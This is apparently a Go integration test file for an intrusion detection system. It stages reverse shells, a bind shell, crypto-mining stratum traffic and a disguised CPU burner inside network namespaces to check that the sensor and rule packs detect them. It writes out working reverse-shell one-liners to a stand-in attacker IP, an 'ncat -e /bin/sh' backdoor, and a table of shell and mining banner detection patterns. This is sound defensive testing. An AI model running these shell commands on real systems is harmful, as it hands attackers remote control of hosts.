package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-ids/vigil/internal/event"
	"github.com/vigil-ids/vigil/internal/testutil"
	"github.com/vigil-ids/vigil/internal/testutil/vigilproc"
)

// These tests run the real programs of an intrusion, shells over TCP and a
// mining client, in network namespaces while the real network sensor
// captures, and the real host agent while a CPU burner runs; the records
// must carry what the rule packs look for, and the packs must fire on them.
// With -record-scenarios they write what they recorded as the packs'
// scenarios (rules/scenarios), times moved to the scenarios' base.

var recordScenarios = flag.Bool("record-scenarios", false, "write the records of the live shell, mining and CPU burn tests as rule scenarios")

// A gateway between the site (inside, 10.0.0.7) and the Internet
// (outside, 203.0.113.66): two namespaces joined by a veth pair; the
// sensor captures on the inside end.
type edgeLab struct {
	in, out     string // namespaces
	inIf, outIf string
}

const (
	insideIP  = "10.0.0.7"
	outsideIP = "203.0.113.66"
)

func newEdgeLab(t *testing.T) *edgeLab {
	t.Helper()
	pid := os.Getpid()
	l := &edgeLab{in: fmt.Sprintf("vgl-in-%d", pid), out: fmt.Sprintf("vgl-out-%d", pid),
		inIf: fmt.Sprintf("vgi%d", pid), outIf: fmt.Sprintf("vgo%d", pid)}
	t.Cleanup(func() {
		_ = exec.Command("ip", "netns", "del", l.in).Run()
		_ = exec.Command("ip", "netns", "del", l.out).Run()
	})
	sh(t, "ip", "netns", "add", l.in)
	sh(t, "ip", "netns", "add", l.out)
	sh(t, "ip", "link", "add", l.inIf, "type", "veth", "peer", "name", l.outIf)
	sh(t, "ip", "link", "set", l.inIf, "netns", l.in)
	sh(t, "ip", "link", "set", l.outIf, "netns", l.out)
	for _, side := range []struct{ ns, ifname, ip, peer string }{{l.in, l.inIf, insideIP, outsideIP}, {l.out, l.outIf, outsideIP, insideIP}} {
		// IPv6 off: its neighbour discovery would be all the capture
		// holds besides the test's traffic.
		sh(t, "ip", "netns", "exec", side.ns, "sysctl", "-q", "-w", "net.ipv6.conf.all.disable_ipv6=1", "net.ipv6.conf.default.disable_ipv6=1")
		sh(t, "ip", "-n", side.ns, "addr", "add", side.ip+"/32", "dev", side.ifname)
		sh(t, "ip", "-n", side.ns, "link", "set", side.ifname, "up")
		sh(t, "ip", "-n", side.ns, "link", "set", "lo", "up")
		sh(t, "ip", "-n", side.ns, "route", "add", side.peer+"/32", "dev", side.ifname)
	}
	return l
}

// sensor starts the network sensor on the inside end, for the site whose
// only service is 10.0.0.7's SSH: every other port is unassigned.
func (l *edgeLab) sensor(t *testing.T) *proc {
	t.Helper()
	p := startIn(t, l.in, "netsensor", "--iface", l.inIf, "--stdout", "--id", "gw-1", "--internal", "10.0.0.0/8",
		"--services", insideIP+":22/tcp")
	testutil.WaitFor(t, 10*time.Second, "the sensor to capture", func() bool { return strings.Contains(p.Out.String(), "netsensor capturing") })
	return p
}

// program is a real program run in a namespace, bounded in time (killed
// at the end of the test at the latest).
type program struct {
	cmd  *exec.Cmd
	in   io.WriteCloser
	out  *vigilproc.Buffer
	done chan struct{}
}

func (l *edgeLab) run(t *testing.T, ns string, limit time.Duration, dir string, prog string, args ...string) *program {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	cmd := exec.CommandContext(ctx, "nsenter", append([]string{"--net=/run/netns/" + ns, "--", prog}, args...)...)
	cmd.Dir = dir
	// The test's directory is the programs' home: an interactive shell
	// reads no startup file of the machine's user (a ~/.bashrc that runs
	// pyenv took a minute on a loaded machine).
	cmd.Env = append(os.Environ(), "HOME="+dir)
	p := &program{cmd: cmd, out: &vigilproc.Buffer{}, done: make(chan struct{})}
	cmd.Stdout, cmd.Stderr = p.out, p.out
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	p.in = in
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatal(err)
	}
	go func() { _ = cmd.Wait(); cancel(); close(p.done) }()
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		<-p.done
		if t.Failed() {
			t.Logf("%s %s:\n%s", prog, strings.Join(args, " "), p.out.String())
		}
	})
	return p
}

// say types lines into the program, a pause before each.
func (p *program) say(pause time.Duration, lines ...string) {
	for _, l := range lines {
		time.Sleep(pause)
		_, _ = io.WriteString(p.in, l+"\n")
	}
}

func (p *program) wait(t *testing.T, limit time.Duration) {
	t.Helper()
	select {
	case <-p.done:
	case <-time.After(limit):
		t.Fatalf("%s did not end within %v", strings.Join(p.cmd.Args, " "), limit)
	}
}

// listening waits until something listens on port in namespace ns.
func (l *edgeLab) listening(t *testing.T, ns string, port int) {
	t.Helper()
	testutil.WaitFor(t, 10*time.Second, fmt.Sprintf("a listener on port %d", port), func() bool {
		out, _ := exec.Command("ip", "netns", "exec", ns, "cat", "/proc/net/tcp").Output()
		return strings.Contains(string(out), fmt.Sprintf(":%04X 00000000:0000 0A", port))
	})
}

// records stops the sensor and returns its records.
func records(t *testing.T, sensor *proc) []event.Event {
	t.Helper()
	sensor.Stop(t, 10*time.Second)
	return decodeLines(t, sensor.Out.String())
}

func decodeLines(t *testing.T, out string) []event.Event {
	t.Helper()
	var evs []event.Event
	for _, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "{") {
			continue
		}
		ev, err := event.DecodeJSON([]byte(line))
		if err != nil {
			t.Fatalf("a record that does not decode: %v\n%s", err, line)
		}
		evs = append(evs, ev)
	}
	return evs
}

// banners are the NET.BANNER records, as "from port: banner".
func banners(evs []event.Event) []string {
	var out []string
	for _, ev := range evs {
		if ev.Type == "NET.BANNER" {
			out = append(out, ev.Str("from")+" "+ev.Str("dport")+": "+ev.Str("banner"))
		}
	}
	return out
}

func hasBanner(bs []string, from string, port int, part string) bool {
	return slices.ContainsFunc(bs, func(b string) bool {
		return strings.HasPrefix(b, fmt.Sprintf("%s %d: ", from, port)) && strings.Contains(b, part)
	})
}

// packReports replays events through a built-in pack and returns the
// reports, as "model subject".
func packReports(t *testing.T, pack string, evs []event.Event) ([]string, []event.Report) {
	t.Helper()
	dir := t.TempDir()
	cfg := filepath.Join(dir, "replay.yaml")
	if err := os.WriteFile(cfg, []byte("monitor: {name: replay}\nengines:\n  - kind: signature\n    rules: [builtin:"+pack+"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var in strings.Builder
	for i := range evs {
		in.Write(evs[i].AppendJSON(nil))
		in.WriteByte('\n')
	}
	out, code := run(t, in.String(), "replay", "--config", cfg)
	if code != 0 {
		t.Fatalf("replay exit %d:\n%s", code, out)
	}
	var got []string
	var reps []event.Report
	for _, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "{") {
			continue
		}
		r, err := event.DecodeReportJSON([]byte(line))
		if err != nil {
			t.Fatalf("report %s: %v", line, err)
		}
		reps = append(reps, r)
		subj := r.IP
		if subj == "" {
			subj = r.Host
		}
		got = append(got, r.Model+" "+subj)
	}
	return got, reps
}

// writeScenario writes evs as rules/scenarios/<pack>/<name>/events.jsonl:
// times moved so the first is the scenarios' base (2026-11-22T10:00:00Z),
// ids the prefix and a number.
func writeScenario(t *testing.T, pack, name, prefix string, evs []event.Event) {
	t.Helper()
	if len(evs) == 0 {
		t.Fatalf("no records for the %s scenario", name)
	}
	base := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
	first := evs[0].Time
	for _, ev := range evs {
		if ev.Time.Before(first) {
			first = ev.Time
		}
	}
	var b []byte
	for i, ev := range evs {
		ev.ID = fmt.Sprintf("%s%02d", prefix, i+1)
		ev.Time = base.Add(ev.Time.Sub(first).Round(time.Millisecond))
		b = append(ev.AppendJSON(b), '\n')
	}
	file := filepath.Join("..", "..", "rules", "scenarios", pack, name, "events.jsonl")
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, b, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("wrote %s (%d records); make its reports with go test ./internal/engine/signature -run TestPackScenarios -update", file, len(evs))
}

// TestReverseShellLive: an outside host listens with ncat; inside, bash
// connects to it with an interactive shell (bash -i >& /dev/tcp/...), sh
// -i to another port, and ncat -e /bin/sh to a third. The sensor keeps
// bash's and sh's complaints without a terminal and the output of id,
// from the connecting side; the gateway pack reports a reverse shell for
// each, about the inside host.
func TestReverseShellLive(t *testing.T) {
	needTools(t, "ip", "nsenter", "ncat", "bash")
	l := newEdgeLab(t)
	dir := t.TempDir()
	sensor := l.sensor(t)

	attacker := l.run(t, l.out, 40*time.Second, dir, "ncat", "-l", "4444")
	l.listening(t, l.out, 4444)
	victim := l.run(t, l.in, 40*time.Second, dir, "bash", "-c", "bash -i >& /dev/tcp/"+outsideIP+"/4444 0>&1")
	attacker.say(time.Second, "id", "uname -a", "exit")
	victim.wait(t, 30*time.Second)
	attacker.wait(t, 30*time.Second)
	if !strings.Contains(attacker.out.String(), "uid=") {
		t.Fatalf("the shell did not answer id:\n%s", attacker.out.String())
	}

	// sh -i: the shell of /bin/sh (dash on Debian) complains that it has
	// no terminal, its program name and line number first ("sh: 0: ").
	attacker3 := l.run(t, l.out, 40*time.Second, dir, "ncat", "-l", "4446")
	l.listening(t, l.out, 4446)
	victim3 := l.run(t, l.in, 40*time.Second, dir, "bash", "-c", "sh -i >& /dev/tcp/"+outsideIP+"/4446 0>&1")
	attacker3.say(time.Second, "id", "exit")
	victim3.wait(t, 30*time.Second)
	attacker3.wait(t, 30*time.Second)

	attacker2 := l.run(t, l.out, 40*time.Second, dir, "ncat", "-l", "9001")
	l.listening(t, l.out, 9001)
	victim2 := l.run(t, l.in, 40*time.Second, dir, "ncat", outsideIP, "9001", "-e", "/bin/sh")
	attacker2.say(time.Second, "id", "exit")
	victim2.wait(t, 30*time.Second)
	attacker2.wait(t, 30*time.Second)
	time.Sleep(500 * time.Millisecond)

	evs := records(t, sensor)
	bs := banners(evs)
	t.Logf("banners: %q", bs)
	if !hasBanner(bs, "client", 4444, "cannot set terminal process group") && !hasBanner(bs, "client", 4444, "no job control in this shell") {
		t.Errorf("no banner of bash -i from the connecting side: %q", bs)
	}
	if !hasBanner(bs, "server", 4444, "id\\n") {
		t.Errorf("no banner of the attacker's first command: %q", bs)
	}
	if !hasBanner(bs, "client", 9001, "uid=") {
		t.Errorf("no banner of id's output from the connecting side: %q", bs)
	}
	if !hasBanner(bs, "client", 4446, "sh: ") {
		t.Errorf("no banner of sh's complaint from the connecting side: %q", bs)
	}
	got, _ := packReports(t, "gateway.yaml", evs)
	if want := []string{"reverse-shell " + insideIP, "reverse-shell " + insideIP, "reverse-shell " + insideIP}; !slices.Equal(got, want) {
		t.Errorf("gateway pack reports %q, want %q", got, want)
	}
	if *recordScenarios {
		writeScenario(t, "gateway", "reverse-shell", "rvs-", evs)
	}
}

// TestBindShellLive: inside, ncat listens with a shell behind it (ncat -l
// -e /bin/sh); outside, ncat connects and types id. The sensor keeps id's
// output from the listening side; the pack reports a bind shell on the
// inside host.
func TestBindShellLive(t *testing.T) {
	needTools(t, "ip", "nsenter", "ncat")
	l := newEdgeLab(t)
	dir := t.TempDir()
	sensor := l.sensor(t)
	backdoor := l.run(t, l.in, 40*time.Second, dir, "ncat", "-l", "4445", "-e", "/bin/sh")
	l.listening(t, l.in, 4445)
	attacker := l.run(t, l.out, 40*time.Second, dir, "ncat", insideIP, "4445")
	attacker.say(time.Second, "id", "uname -a")
	time.Sleep(time.Second)
	_ = attacker.in.Close()
	attacker.wait(t, 30*time.Second)
	backdoor.wait(t, 30*time.Second)
	if !strings.Contains(attacker.out.String(), "uid=") {
		t.Fatalf("the shell did not answer id:\n%s", attacker.out.String())
	}
	time.Sleep(500 * time.Millisecond)
	evs := records(t, sensor)
	bs := banners(evs)
	t.Logf("banners: %q", bs)
	if !hasBanner(bs, "client", 4445, "id\\n") || !hasBanner(bs, "server", 4445, "uid=") {
		t.Errorf("want the command from the client and id's output from the server: %q", bs)
	}
	got, _ := packReports(t, "gateway.yaml", evs)
	if want := []string{"bind-shell " + insideIP}; !slices.Equal(got, want) {
		t.Errorf("gateway pack reports %q, want %q", got, want)
	}
	if *recordScenarios {
		writeScenario(t, "gateway", "bind-shell", "bds-", evs)
	}
}

// stratumPool is a stratum (v1) pool stand-in: it answers one miner's
// mining.subscribe and mining.authorize, then sends a difficulty and a job.
const stratumPool = `import json, socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[1])))
s.listen(1)
s.settimeout(15)
c, _ = s.accept()
c.settimeout(10)
f = c.makefile("rwb")
def send(m):
    f.write((json.dumps(m) + "\n").encode())
    f.flush()
for line in f:
    req = json.loads(line)
    if req["method"] == "mining.subscribe":
        send({"id": req["id"], "result": [[["mining.set_difficulty", "b4b6693b72a50c7116db18d6497cac52"], ["mining.notify", "ae6812eb4cd7735a302a8a9dd95cf71f"]], "08000002", 4], "error": None})
    elif req["method"] == "mining.authorize":
        send({"id": req["id"], "result": True, "error": None})
        send({"id": None, "method": "mining.set_difficulty", "params": [1]})
        send({"id": None, "method": "mining.notify", "params": ["bf", "4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000", "01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff20020862062f503253482f04b8864e5008", "072f736c7573682f000000000100f2052a010000001976a914d23fcdf86f7e756a64a7a9688ef9903327048ed988ac00000000", [], "00000002", "1c2ac4af", "504e86b9", False]})
        break
    else:
        send({"id": req["id"], "result": None, "error": [20, "Other/Unknown", None]})
c.close()
`

// stratumMiner is a mining client stand-in: it subscribes and authorizes
// as cpuminer does, and reads the pool's first job.
const stratumMiner = `import json, socket, sys
c = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
f = c.makefile("rwb")
def call(i, method, params):
    f.write((json.dumps({"id": i, "method": method, "params": params}) + "\n").encode())
    f.flush()
    return json.loads(f.readline())
assert call(1, "mining.subscribe", ["cpuminer/2.5.1"])["error"] is None
assert call(2, "mining.authorize", ["wallet.worker1", "x"])["result"] is True
while True:
    m = json.loads(f.readline())
    if m.get("method") == "mining.notify":
        print("job", m["params"][0])
        break
`

// TestMiningProtocolLive: inside, a miner speaks stratum to a pool
// outside, on the usual port (3333) and on 443. The sensor keeps the
// miner's mining.subscribe; the pack reports mining on each port, about
// the inside host.
func TestMiningProtocolLive(t *testing.T) {
	needTools(t, "ip", "nsenter", "python3")
	l := newEdgeLab(t)
	dir := t.TempDir()
	for name, src := range map[string]string{"pool.py": stratumPool, "miner.py": stratumMiner} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	sensor := l.sensor(t)
	for _, port := range []int{3333, 443} {
		pool := l.run(t, l.out, 40*time.Second, dir, "python3", "pool.py", fmt.Sprint(port))
		l.listening(t, l.out, port)
		miner := l.run(t, l.in, 40*time.Second, dir, "python3", "miner.py", outsideIP, fmt.Sprint(port))
		miner.wait(t, 30*time.Second)
		pool.wait(t, 30*time.Second)
		if !strings.Contains(miner.out.String(), "job bf") {
			t.Fatalf("the miner got no job on port %d:\n%s", port, miner.out.String())
		}
	}
	time.Sleep(500 * time.Millisecond)
	evs := records(t, sensor)
	bs := banners(evs)
	t.Logf("banners: %q", bs)
	for _, port := range []int{3333, 443} {
		if !hasBanner(bs, "client", port, `"method": "mining.subscribe"`) {
			t.Errorf("no mining.subscribe from the miner on port %d: %q", port, bs)
		}
	}
	got, _ := packReports(t, "gateway.yaml", evs)
	if want := []string{"mining-protocol " + insideIP, "mining-protocol " + insideIP}; !slices.Equal(got, want) {
		t.Errorf("gateway pack reports %q, want %q", got, want)
	}
	if *recordScenarios {
		writeScenario(t, "gateway", "mining-protocol", "mnp-", evs)
	}
}

// TestSustainedCPUBurnLive runs the real agent over the real /proc while
// two programs burn a core each: a miner's name (kdevtmpfsi, a copy of
// yes) and gzip compressing zeros, a known workload. Both hold the CPU
// level; the host pack reports the first only.
func TestSustainedCPUBurnLive(t *testing.T) {
	yes, err := exec.LookPath("yes")
	if err != nil {
		t.Skip("needs yes (coreutils)")
	}
	if _, err := exec.LookPath("gzip"); err != nil {
		t.Skip("needs gzip")
	}
	dir := t.TempDir()
	miner := filepath.Join(dir, "kdevtmpfsi")
	b, err := os.ReadFile(yes)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(miner, b, 0o755); err != nil {
		t.Fatal(err)
	}
	agent := start(t, "agent", "--stdout", "--interval", "500ms", "--window", "3", "--cpu-level", "10", "--cpu-level-for", "2s",
		"--procs", "kdevtmpfsi,gzip", "--host-id", "build-2", "--ip", "10.0.0.41")
	testutil.WaitFor(t, 10*time.Second, "the agent to run", func() bool { return strings.Contains(agent.Out.String(), "host sensor running") })
	burn := func(name string, args ...string) *exec.Cmd {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		cmd := exec.CommandContext(ctx, name, args...)
		zero, err := os.Open("/dev/zero")
		if err != nil {
			t.Fatal(err)
		}
		cmd.Stdin = zero
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait(); cancel(); zero.Close() })
		return cmd
	}
	burners := []*exec.Cmd{burn(miner), burn("gzip", "-1", "-c")}
	level := func(pid int, ended bool) bool {
		for _, ev := range decodeLines(t, agent.Out.String()) {
			if p, _ := ev.Int("pid"); ev.Type == event.TypeProcCPULevel && int(p) == pid && (ev.Str("ended") == "true") == ended {
				return true
			}
		}
		return false
	}
	testutil.WaitFor(t, 20*time.Second, "PROC.CPU.LEVEL for both burners", func() bool {
		return level(burners[0].Process.Pid, false) && level(burners[1].Process.Pid, false)
	})
	for _, c := range burners {
		_ = c.Process.Kill()
		_ = c.Wait()
	}
	testutil.WaitFor(t, 10*time.Second, "the ends of both levels", func() bool {
		return level(burners[0].Process.Pid, true) && level(burners[1].Process.Pid, true)
	})
	agent.Stop(t, 10*time.Second)
	var evs []event.Event
	for _, ev := range decodeLines(t, agent.Out.String()) {
		// The burners' observations; their spawns would also meet the
		// rule on programs run from a temporary directory.
		if p, _ := ev.Int("pid"); ev.Type != event.TypeProcSpawn && (int(p) == burners[0].Process.Pid || int(p) == burners[1].Process.Pid) {
			evs = append(evs, ev)
		}
	}
	got, reps := packReports(t, "host.yaml", evs)
	if want := []string{"sustained-cpu-burn 10.0.0.41"}; !slices.Equal(got, want) {
		t.Fatalf("host pack reports %q, want %q", got, want)
	}
	if !strings.Contains(reps[0].Explanation, "kdevtmpfsi (pid ") || !strings.Contains(reps[0].Explanation, miner) {
		t.Errorf("report %q: want the miner's name and path", reps[0].Explanation)
	}
	if *recordScenarios {
		// Above the test binary, the ancestry is the machine's that ran
		// the test, not the scenario's.
		for i := range evs {
			if anc, ok := evs[i].Attrs["ancestors"].([]string); ok {
				if n := slices.Index(anc, "vigil.test"); n >= 0 {
					evs[i].Attrs["ancestors"] = anc[:n+1]
				}
			}
		}
		writeScenario(t, "host", "sustained-cpu-burn", "scb-", evs)
	}
}

// TestShellAndMiningBannerForms replays banners of the forms the pack's
// shell and mining rules name, and of services that must not meet them,
// through the gateway pack: each on its own port, so that every one is
// judged alone.
func TestShellAndMiningBannerForms(t *testing.T) {
	cases := []struct{ from, banner, want string }{
		{"client", `bash: no job control in this shell\n`, "reverse-shell"},
		{"server", `sh: no job control in this shell\n`, "bind-shell"},
		{"client", `/bin/sh: can't access tty; job control turned off\n`, "reverse-shell"},
		{"client", `sh: 0: `, "reverse-shell"},
		{"client", `sh-5.2$ `, "reverse-shell"},
		{"server", `sh-5.2# `, "bind-shell"},
		{"client", `bash-5.2# `, "reverse-shell"},
		{"client", `$ `, "reverse-shell"},
		{"server", `# `, "bind-shell"},
		{"client", `root@web-3:/var/www/html# `, "reverse-shell"},
		{"server", `www-data@web-3:~$ `, "bind-shell"},
		{"client", `[root@db-1 ~]# `, "reverse-shell"},
		{"server", `uid=33(www-data) gid=33(www-data) groups=33(www-data)\n`, "bind-shell"},
		{"client", `Linux web-3 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1`, "reverse-shell"},
		{"client", `{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5`, "mining-protocol"},
		{"client", `{"params": ["wallet.w1", "x"], "id": 2, "method": "mining.authorize"}`, "mining-protocol"},
		{"client", `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"`, "mining-protocol"},
		{"server", `{"id": 1, "result": [[["mining.set_difficulty", "b4b6693b72a50c7`, "mining-protocol"},
		{"server", `{"id":null,"method":"mining.notify","params":["bf","4d16b6f85af6`, "mining-protocol"},
		// Not shells, not mining.
		{"server", `SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n`, ""},
		{"client", `GET / HTTP/1.1\r\nHost: 10.0.0.7\r\n`, ""},
		{"server", `220 mail.example.com ESMTP Postfix\r\n`, ""},
		{"client", `id\n`, ""},
		{"server", `$ENV{PATH} is not set\n`, ""},
		{"client", `uid=abc`, ""},
		{"client", `{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}`, ""},
		{"client", `{"jsonrpc":"2.0","method":"login","params":{"user":"alice"}}`, ""},
		{"server", `Welcome # to the service\r\n`, ""},
	}
	var evs []event.Event
	base := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
	for i, tc := range cases {
		evs = append(evs, event.Event{ID: fmt.Sprintf("bf-%02d", i), Time: base.Add(time.Duration(i) * time.Second), Type: "NET.BANNER",
			IP: insideIP, Source: "gw-1", Attrs: map[string]any{
				"banner": tc.banner, "from": tc.from, "bytes": int64(len(tc.banner)), "guess": "unknown", "proto": "tcp",
				"src": outsideIP, "dst": insideIP, "sport": int64(40000 + i), "dport": int64(20000 + i), "direction": "inbound", "unassigned": true,
			}})
	}
	_, reps := packReports(t, "gateway.yaml", evs)
	fired := map[int][]string{}
	for _, r := range reps {
		p, _ := r.Attrs["dport"].(int64)
		fired[int(p)-20000] = append(fired[int(p)-20000], r.Model)
	}
	for i, tc := range cases {
		if got := strings.Join(fired[i], ","); got != tc.want {
			t.Errorf("%s banner %q: rules %q, want %q", tc.from, tc.banner, got, tc.want)
		}
	}
}
